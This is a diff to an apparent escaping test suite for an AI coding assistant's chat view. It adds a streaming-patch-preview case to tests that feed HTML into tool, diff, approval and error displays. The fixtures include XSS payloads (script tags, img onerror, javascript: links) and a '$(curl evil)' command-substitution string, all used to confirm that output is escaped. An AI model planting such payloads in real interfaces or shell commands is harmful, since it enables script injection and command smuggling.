@@ -13,7 +13,7 @@ import { deltas, msg } from './fixtures.ts';
 
 after(() => closeSharedEnvironment());
 
-type Channel = 'text' | 'text-1char' | 'loaded' | 'user' | 'tool-output' | 'tool-meta' | 'diff' | 'approval' | 'error' | 'chip' | 'history' | 'files';
+type Channel = 'text' | 'text-1char' | 'loaded' | 'user' | 'tool-output' | 'tool-meta' | 'diff' | 'preview' | 'approval' | 'error' | 'chip' | 'history' | 'files';
 
 interface Case {
   name: string;
@@ -71,6 +71,7 @@ const CASES: Case[] = [
   { name: 'tool output with html', channel: 'tool-output', payload: `<script>${X}</script><img src=x onerror="${X}">\n[x](javascript:alert(1))`, shows: '<script>', noLinks: true },
   { name: 'tool name, summary and result with html', channel: 'tool-meta', payload: `<img src=x onerror="${X}">`, shows: '<img src=x' },
   { name: 'diff path and lines with html', channel: 'diff', payload: `<img src=x onerror="${X}">`, shows: '<img src=x' },
+  { name: 'streaming patch preview: name, paths and lines with html', channel: 'preview', payload: `<img src=x onerror="${X}">`, shows: '<img src=x' },
   { name: 'approval title and command with html', channel: 'approval', payload: `$(curl evil) <script>${X}</script>`, shows: '<script>' },
   { name: 'error message with html', channel: 'error', payload: `<img src=x onerror="${X}"> [fix](command:workbench.action.terminal.new)`, shows: '<img src=x', noLinks: true },
   { name: 'context chip file name with html', channel: 'chip', payload: `<img src=x onerror="${X}">.ts`, shows: '<img src=x' },
@@ -92,6 +93,7 @@ async function deliver(view: View, c: Case): Promise<void> {
     case 'tool-output': return view.send(...start, tool(), msg('tool.progress', { id: 't1', chunk: p }), end);
     case 'tool-meta': return view.send(...start, tool({ name: p, summary: p }), msg('tool.update', { id: 't1', status: 'error', result: p }), end);
     case 'diff': return view.send(...start, tool(), msg('tool.update', { id: 't1', status: 'awaiting_approval', approval: { kind: 'edit', title: p }, diff: [{ path: p, moveTo: p, kind: 'update', added: 1, removed: 1, hunks: [{ oldStart: 1, newStart: 1, lines: [`-${p}`, `+${p}`, ` ${p}`] }] }] }));
+    case 'preview': return view.send(...start, msg('tool.preview', { messageId: id, id: 't1', name: p, preview: { filesOmitted: 0, files: [{ path: p, moveTo: p, kind: 'update', added: 1, removed: 1, omitted: 2, lines: [`@${p}`, `-${p}`, `+${p}`, ` ${p}`] }] } }));
     case 'approval': return view.send(...start, tool({ status: 'awaiting_approval', approval: { kind: 'shell', title: p, command: p } }));
     case 'error': return view.send(...start, msg('assistant.end', { id, error: { code: p, message: p, actions: ['retry'] } }));
     case 'chip': return view.send(start[0] as HostMessage, msg('context', { chips: [{ kind: 'file', path: p, label: p }, { kind: 'selection', path: p, range: { start: 1, end: 2 }, label: '' }] }));
